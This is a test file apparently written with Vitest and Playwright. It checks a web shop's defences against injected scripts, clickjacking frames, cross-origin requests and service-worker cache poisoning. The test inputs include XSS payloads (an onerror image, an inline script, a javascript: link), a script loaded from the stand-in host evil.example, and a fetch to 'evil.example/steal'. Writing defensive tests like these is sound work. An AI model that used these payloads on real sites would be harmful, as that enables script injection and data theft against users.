import { createServer, type Server } from 'node:http';
import { type Browser, chromium, type Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findChromium } from '../../scripts/chromium.ts';
import { type AttackedShop, attackedShop } from './shop.ts';

const metricsToken = '5c0e7f2a91b84d63e8';

describe('browser defences against foreign pages and injected scripts', () => {
  let shop: AttackedShop;
  let browser: Browser;
  /** A foreign site: the same machine, another origin. */
  let stranger: Server;
  let strangerOrigin: string;
  let framed = '';
  beforeAll(async () => {
    shop = await attackedShop({ env: { METRICS_TOKEN: metricsToken } });
    browser = await chromium.launch({ executablePath: findChromium(), args: ['--no-sandbox'] });
    stranger = createServer((_, response) => {
      response.setHeader('content-type', 'text/html');
      response.end(
        `<iframe id="trap" src="${framed}" width="600" height="400" style="opacity:0.01"></iframe>`,
      );
    });
    await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve));
    const address = stranger.address();
    strangerOrigin = `http://127.0.0.1:${typeof address === 'object' ? address?.port : 0}`;
  });
  afterAll(async () => {
    await browser?.close();
    stranger?.close();
    await shop?.close();
  });
  const violations = async () => {
    const headers = { authorization: `Bearer ${metricsToken}` };
    const text = await (await fetch(`${shop.origin}/metrics`, { headers })).text();
    return Object.fromEntries(
      [...text.matchAll(/^csp_violations_total\{directive="([\w-]+)"\} (\d+)$/gm)].map(([, name, count]) => [
        name,
        Number(count),
      ]),
    );
  };

  it.each(['/qianduanshop/home', '/en/qianduanshop/user/login', '/adminweb', '/adminsystem'])(
    'run no script that was injected into %s, and report it',
    async (path) => {
      const before = await violations();
      const page = await browser.newPage();
      // A back office whose script does not load cannot lead to the login.
      await page.route('**/_astro/**', (route) => route.abort());
      await page.goto(`${shop.origin}${path}`);
      const ran = await page.evaluate(async () => {
        const mark = document.createElement('div');
        mark.innerHTML = '<img src="data:," onerror="window.__ran = 1">';
        document.body.append(mark);
        const inline = document.createElement('script');
        inline.textContent = 'window.__ran = 2';
        document.body.append(inline);
        const remote = document.createElement('script');
        remote.src = 'https://evil.example/x.js';
        document.body.append(remote);
        const link = document.createElement('a');
        link.href = 'javascript:window.__ran = 3';
        document.body.append(link);
        link.click();
        const sent = await fetch('https://evil.example/steal').catch(() => 'refused');
        await new Promise((resolve) => setTimeout(resolve, 300));
        return [Reflect.get(window, '__ran'), sent];
      });
      expect(ran).toEqual([undefined, 'refused']);
      await expect
        .poll(
          async () => {
            const after = await violations();
            return ['script-src-elem', 'script-src-attr', 'connect-src'].filter(
              (name) => (after[name] ?? 0) > (before[name] ?? 0),
            );
          },
          { timeout: 20_000 },
        )
        .toEqual(['script-src-elem', 'script-src-attr', 'connect-src']);
      await page.close();
    },
  );

  it.each([
    '/qianduanshop/home',
    '/qianduanshop/user/login',
    '/qianduanshop/order/confirm',
    '/qianduanshop/user/profile',
    '/qianduanshop/payment?no=P00000000000000000000',
    '/adminweb/dashboard',
    '/adminsystem/dashboard',
    '/api/docs',
    '/qianduanshop/nothing-there',
  ])('let no other site put %s into a frame', async (path) => {
    framed = `${shop.origin}${path}`;
    const page = await browser.newPage();
    await page.goto(strangerOrigin);
    const frame = page.frames().find((one) => one !== page.mainFrame());
    expect(frame?.url()).toMatch(/^chrome-error:/);
    await page.close();
  });

  it('give other sites nothing through calls with cookies, forms or windows they opened', async () => {
    framed = 'about:blank';
    const page = await browser.newPage();
    await page.goto(strangerOrigin);
    const read = await page.evaluate(async (origin) => {
      const asked = await fetch(`${origin}/api/user/info`, { credentials: 'include' }).then(
        () => 'read',
        () => 'refused',
      );
      const posted = await fetch(`${origin}/api/cart/add`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: '{}',
      }).then(
        () => 'read',
        () => 'refused',
      );
      return [asked, posted];
    }, shop.origin);
    expect(read).toEqual(['refused', 'refused']);
    expect(await page.context().cookies(shop.origin)).toEqual([]);
    await page.close();
  });

  describe('service worker', () => {
    const cached = (page: Page) =>
      page.evaluate(async () => {
        const names = await caches.keys();
        const all = await Promise.all(
          names.map(async (name) => (await (await caches.open(name)).keys()).map(({ url }) => url)),
        );
        return all.flat().map((url) => new URL(url).pathname + new URL(url).search);
      });

    it('is one file, and nothing else of the origin can be registered as one', async () => {
      const page = await browser.newPage();
      await page.goto(`${shop.origin}/qianduanshop/home`);
      const tried = await page.evaluate(async () => {
        const outcome: Record<string, string> = {};
        for (const script of [
          '/api/site/settings',
          '/api/openapi.json',
          '/files/upload/none.js',
          '/favicon.svg',
          '/qianduanshop/home',
          '/manifest.json',
          '/feeds/new-zh.xml',
        ])
          outcome[script] = await navigator.serviceWorker.register(script, { scope: '/' }).then(
            () => 'registered',
            () => 'refused',
          );
        return outcome;
      });
      expect(new Set(Object.values(tried))).toEqual(new Set(['refused']));
      await page.close();
    });

    it('caches built files, the offline page and public pages alone, whatever is requested through it', async () => {
      const context = await browser.newContext();
      const page = await context.newPage();
      await page.goto(`${shop.origin}/qianduanshop/home`);
      await page.evaluate(async () => {
        await navigator.serviceWorker.register('/worker.js');
        await navigator.serviceWorker.ready;
      });
      await page.reload();
      const [script = ''] = await page.$$eval('script[src^="/_astro/"], link[href^="/_astro/"]', (all) =>
        all.map((one) => one.getAttribute('src') ?? one.getAttribute('href') ?? ''),
      );
      await page.evaluate(async (built) => {
        for (const path of [
          `${built}?poison=1`,
          '/_astro/none-12345678.js',
          '/_astro/../qianduanshop/home',
          '/api/site/settings',
          '/qianduanshop/product/1?x=<script>',
          '/files/upload/none.webp',
          '/favicon.svg',
        ])
          await fetch(path).catch(() => {});
      }, script);
      await page.goto(`${shop.origin}/qianduanshop/category?keyword=poison`);
      const kept = await cached(page);
      const odd = kept.filter((path) => !/^\/_astro\/[^?]+$|^(\/en)?\/qianduanshop\/offline$/.test(path));
      // The cache also holds visited public pages, as visitors get them.
      expect(
        odd.filter((path) => path !== '/qianduanshop/home' && path !== '/qianduanshop/category'),
      ).toEqual([]);
      await page.waitForFunction(async () => (await (await caches.open('visited-1')).keys()).length === 2);
      const visited = await page.evaluate(async () => {
        const cache = await caches.open('visited-1');
        const answers = await Promise.all((await cache.keys()).map((one) => cache.match(one)));
        return Promise.all(answers.map((answer) => answer?.text() ?? ''));
      });
      expect(visited.join()).not.toContain('poison');
      expect(kept).not.toContain('/_astro/none-12345678.js');
      await context.close();
    });
  });
});
